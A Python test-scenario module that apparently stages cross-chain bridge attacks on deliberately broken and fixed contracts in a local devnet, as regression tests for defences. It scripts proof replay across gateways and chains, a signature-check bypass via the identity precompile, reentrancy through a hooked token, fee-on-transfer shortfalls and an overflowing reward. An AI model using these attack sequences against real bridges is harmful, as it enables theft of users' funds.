"""Attacks on what a bridge takes for a message, a signature, a token or a reward (R62, R64, R67, R71).

Rows J03, J10-J12 and J19 of the catalogue. Each is played on the broken contracts and on ours; it answers what was
lost, or is refused.
"""

from __future__ import annotations

from eth_abi.abi import encode as encode_abi

from devnet.errors import ChainError
from devnet.scenarios.museum.bridges import (
    AMOUNT,
    BOUNTY,
    Bridge,
    approve,
    build,
    found,
    owned,
    owned_by_attacker,
    prove,
    stake,
    take_home,
    token,
    transfer,
    unbacked,
)
from devnet.scenarios.museum.hall import Account, Hall, Standing, Steps, Wait
from devnet.types import TOKEN

REPEATER = bytes(19) + b"\x04"
"""The precompiled contract that answers what it was asked."""

PRICE, LIMIT = 2**66, 2**190
"""Their product is 2^256, which wraps round to zero."""

COINS = TOKEN
"""What a re-entering contract has for bounties."""


def replay_on_another_gateway(hall: Hall) -> Steps[int]:
    """One stake, minted by two co-gateways that believe the same gateway."""
    names = hall.pick("GatewayFreeGateway", "Gateway"), hall.pick("GatewayFreeCoGateway", "CoGateway")
    bridge = yield from build(hall, *names)
    second = found(hall, hall.auxiliary, names[1], bridge.gateway)
    sent = transfer(hall)
    yield from stake(hall, bridge, sent)
    yield Wait.FINALISED
    yield from take_home(hall, bridge.target, sent, prove(hall, bridge, bridge.target, sent))
    yield from take_home(hall, second, sent, prove(hall, bridge, second, sent))
    return owned_by_attacker(hall, second)


def replay_on_another_chain(hall: Hall) -> Steps[int]:
    """One stake, minted by two co-gateways at the same address of two chains."""
    names = hall.pick("ChainFreeGateway", "Gateway"), hall.pick("ChainFreeCoGateway", "CoGateway")
    bridge = yield from build(hall, *names, founder=Account.FOUNDER)
    # Origin itself is the other chain; what it is told about its own roots there is true.
    roots = hall.deploy(hall.origin, "KeyedRoots", hall.address(Account.CURATOR))
    second = found(hall, hall.origin, names[1], bridge.gateway, roots.address, founder=Account.FOUNDER)
    if second.co_gateway.address != bridge.target.co_gateway.address:
        raise ChainError("the same contract on two chains must have one address: the founder's nonces differ")
    sent = transfer(hall)
    yield from stake(hall, bridge, sent)
    yield Wait.FINALISED
    root = hall.observed_root()
    yield from hall.attempt(roots, "anchorStateRoot", hall.root.height, root, by=Account.CURATOR)
    yield from take_home(hall, bridge.target, sent, prove(hall, bridge, bridge.target, sent))
    yield from take_home(hall, second, sent, prove(hall, bridge, second, sent))
    return owned_by_attacker(hall, second)


def signature_bypassed(hall: Hall) -> Steps[int]:
    """A victim's tokens for the attacker, signed by nobody, checked by a contract that finds everything valid."""
    bridge = yield from build(hall, gateway=hall.pick("CallerVerifiedGateway", "Gateway"))
    yield from approve(hall, bridge.token, bridge.gateway, Account.VICTIM)
    sent = transfer(hall, sender=hall.address(Account.VICTIM))
    evidence = encode_abi(["address", "bytes"], [REPEATER, b""])
    yield from hall.attempt(bridge.gateway, "stake", sent.fields(), evidence, value=BOUNTY)
    yield Wait.FINALISED
    yield from take_home(hall, bridge.target, sent, prove(hall, bridge, bridge.target, sent))
    return owned_by_attacker(hall, bridge.target)


def reentrant_token(hall: Hall) -> Steps[int]:
    """A token that calls its sender before it moves, and a sender that then stakes once more."""
    attacking = hall.next_address(hall.origin, 1, Account.ATTACKER)
    value = token(hall, hall.origin, "HookedToken", (attacking, hall.address(Account.VICTIM)), Account.ATTACKER)
    reenterer = hall.deploy(hall.origin, "Reenterer", value.address, by=Account.ATTACKER, value=COINS)
    if hall.is_broken:
        return (yield from _rob_vault(hall, value, reenterer))
    bridge = yield from build(hall, staked=value)
    calls = [
        bridge.gateway.handle.calldata("stake", transfer(hall, sender=attacking, nonce=nonce).fields(), b"")
        for nonce in (0, 1)
    ]
    yield from hall.attempt(reenterer, "call", value.address, bridge.gateway.address, BOUNTY, *calls)
    return _missing(hall, bridge)


def fee_on_transfer(hall: Hall) -> Steps[int]:
    """A token of which a tenth never arrives."""
    value = token(hall, hall.origin, "FeeToken")
    bridge = yield from build(hall, hall.pick("FaceValueGateway", "Gateway"), staked=value)
    yield from stake(hall, bridge, transfer(hall))
    return _missing(hall, bridge)


def over_large_reward(hall: Hall) -> Steps[int]:
    """A reward far beyond the amount, behind a product that wraps round to zero."""
    names = hall.pick("OverflowGateway", "Gateway"), hall.pick("OverflowCoGateway", "CoGateway")
    bridge = yield from build(hall, *names)
    sent = transfer(hall, amount=TOKEN, gas_price=PRICE, gas_limit=LIMIT)
    yield from stake(hall, bridge, sent)
    yield Wait.FINALISED
    yield from take_home(hall, bridge.target, sent, prove(hall, bridge, bridge.target, sent))
    return unbacked(hall, bridge)


def honest_transfer(hall: Hall) -> Steps[int]:
    """A stake that is minted, as it should be: nothing is lost."""
    bridge = yield from build(hall)
    sent = transfer(hall)
    yield from stake(hall, bridge, sent)
    yield Wait.FINALISED
    yield from take_home(hall, bridge.target, sent, prove(hall, bridge, bridge.target, sent))
    return unbacked(hall, bridge) + AMOUNT - owned_by_attacker(hall, bridge.target)


def _rob_vault(hall: Hall, value: Standing, reenterer: Standing) -> Steps[int]:
    """Be credited twice for half of it, and take out what the victim paid in."""
    vault = hall.deploy(hall.origin, "ReentrantVault", value.address)
    yield Wait.MINED
    yield from approve(hall, value, vault, Account.VICTIM)
    yield from hall.attempt(vault, "stake", AMOUNT, by=Account.VICTIM)
    half = vault.handle.calldata("stake", AMOUNT // 2)
    yield from hall.attempt(reenterer, "call", value.address, vault.address, 0, half, half)
    credit = int(hall.read(vault, "credit", reenterer.address))
    out = vault.handle.calldata("unstake", credit)
    yield from hall.attempt(reenterer, "call", value.address, vault.address, 0, out, b"")
    return int(hall.read(vault, "locked")) - owned(hall, value, vault.address)


def _missing(hall: Hall, bridge: Bridge) -> int:
    """What a gateway owes and does not have."""
    return int(hall.read(bridge.gateway, "locked")) - owned(hall, bridge.token, bridge.gateway.address)
